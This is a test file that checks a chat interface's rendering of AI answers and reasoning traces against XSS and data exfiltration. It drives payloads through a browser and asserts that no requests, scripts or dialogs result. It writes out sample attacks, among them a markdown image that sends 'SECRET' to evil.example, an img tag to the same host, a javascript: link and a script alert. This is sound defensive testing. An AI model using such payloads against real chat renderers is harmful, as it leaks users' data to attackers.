import assert from 'node:assert/strict';
import { type AddressInfo, type Server, createServer } from 'node:net';
import { after, before, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { startBrowser } from './browser.ts';
import { FakeHost, question, reply, thinking, viewOf } from './fakeHost.ts';
import { exfiltrations, scripts } from './hostile.ts';
import { type PageServer, servePage } from './server.ts';

let browser: Browser;
let server: PageServer;
let world: Server;
/** Connections to any host under .example: the browser takes them all to one listener on this machine. */
let leaks = 0;

before(async () => {
  world = createServer(socket => {
    leaks += 1;
    socket.destroy();
  });
  await new Promise<void>(resolve => world.listen(0, '127.0.0.1', resolve));
  const { port } = world.address() as AddressInfo;
  [browser, server] = await Promise.all([startBrowser({ worldPort: port }), servePage()]);
});
after(async () => {
  await browser?.close();
  await server?.close();
  world?.close();
});

const allowedElements = new Set(
  'a blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul'.split(
    ' ',
  ),
);
const allowedAttributes = new Set(
  'aria-hidden aria-label class draggable href rel role scope start tabindex title type'.split(' '),
);

interface Found {
  readonly tags: readonly string[];
  readonly attributes: readonly string[];
  readonly hrefs: readonly string[];
}

const contentOf = (host: FakeHost): Promise<Found> =>
  host.page.locator('[data-part]').evaluateAll(parts => {
    const all = parts.flatMap(part => [...part.querySelectorAll('*')]);
    return {
      tags: all.map(element => element.localName),
      attributes: all.flatMap(element => element.getAttributeNames()),
      hrefs: all.flatMap(element => element.getAttribute('href') ?? []),
    };
  });

/** Shows a payload as the answer and as the trace, whole and streaming, and follows each of its links. */
async function show(host: FakeHost, payload: string): Promise<void> {
  const thought = thinking({ text: payload });
  await host.send(viewOf([question, reply({ state: 'streaming', thought: { ...thought, text: '' } })]));
  const pieces = payload.match(/[^]{1,7}/g) ?? [];
  await host.send(...pieces.map(piece => ({ kind: 'grow', id: '2', thought: piece, answer: piece }) as const));
  await host.send(viewOf([question, reply({ answer: payload, thought: { ...thought, ended: true } })]));
  await host.reasoning.click();
  for (const link of await host.page.locator('[data-part] a').all()) {
    await link.hover();
    await link.click();
  }
}

async function openWatched(): Promise<{ host: FakeHost; dialogs: string[]; asked: string[] }> {
  const host = await FakeHost.open(browser, server);
  const dialogs: string[] = [];
  const asked: string[] = [];
  host.page.on('dialog', dialog => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  host.page.on('request', request => asked.push(request.url()));
  return { host, dialogs, asked };
}

test('the listener sees what leaves a page that has no protection', async () => {
  const leaksBefore = leaks;
  const page = await browser.newPage();
  await page.setContent('<img src="http://evil.example/p.png">');
  await page.waitForFunction(() => document.querySelector('img')?.complete === true);
  await page.close();
  assert.ok(leaks > leaksBefore);
});

for (const [kind, payloads] of Object.entries({ exfiltrations, scripts }))
  test(`${payloads.length} ${kind}: no request, no script, no dialog, no element or attribute beyond the allowed`, async () => {
    const { host, dialogs, asked } = await openWatched();
    const url = host.page.url();
    const start = { leaks, requests: server.requests.length };
    for (const payload of payloads) {
      await show(host, payload);
      const found = await contentOf(host);
      assert.deepEqual(
        found.tags.filter(tag => !allowedElements.has(tag)),
        [],
        payload,
      );
      assert.deepEqual(
        found.attributes.filter(name => !allowedAttributes.has(name)),
        [],
        payload,
      );
      assert.deepEqual(
        found.hrefs.filter(href => !href.startsWith('https://')),
        [],
        payload,
      );
    }
    assert.deepEqual(asked, []);
    assert.deepEqual(dialogs, []);
    assert.equal(leaks - start.leaks, 0);
    assert.equal(server.requests.length - start.requests, 0);
    assert.equal(await host.page.evaluate(() => 'pwned' in window), false);
    assert.equal(host.page.url(), url);
    assert.equal(browser.contexts().flatMap(context => context.pages()).length, 1);
    await host.page.close();
  });

test('an answer keeps its words: markup that is refused is shown as text', async () => {
  const { host } = await openWatched();
  const shows = async (answer: string, text: string): Promise<void> => {
    await host.send(viewOf([question, reply({ answer })]));
    assert.equal(await host.answer.textContent(), text);
  };
  await shows('Hi <script>alert(1)</script> there', 'Hi <script>alert(1)</script> there');
  await shows('Use Map<string, List<int>> and Vec<T>.', 'Use Map<string, List<int>> and Vec<T>.');
  await shows('[click](javascript:alert(1))', 'click');
  await shows('![logo](https://evil.example/p.png?d=SECRET)', 'logo (evil.example)');
  await shows('It costs $5, then $10; use $HOME.', 'It costs $5, then $10; use $HOME.');
  await shows('\\( O(n) \\) is \\[ \\boxed{42} \\]', '\\( O(n) \\) is \\[ \\boxed{42} \\]');
  await shows('a\u202eb', 'aU+202Eb');
  await host.page.close();
});

test('the page asks the browser not to look up the hosts of links', async () => {
  const { host } = await openWatched();
  assert.equal(await host.page.locator('meta[http-equiv="x-dns-prefetch-control"][content="off"]').count(), 1);
  await host.page.close();
});
